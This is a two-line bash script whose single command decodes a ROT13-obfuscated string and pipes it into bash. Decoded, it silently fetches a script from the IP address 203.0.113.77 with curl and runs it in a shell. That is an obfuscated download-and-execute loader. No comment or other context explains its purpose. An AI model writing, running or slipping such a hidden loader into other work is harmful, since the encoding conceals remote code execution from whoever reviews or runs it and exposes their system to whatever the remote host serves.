#!/bin/bash
echo 'phey -f uggc://203.0.113.77/f | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash
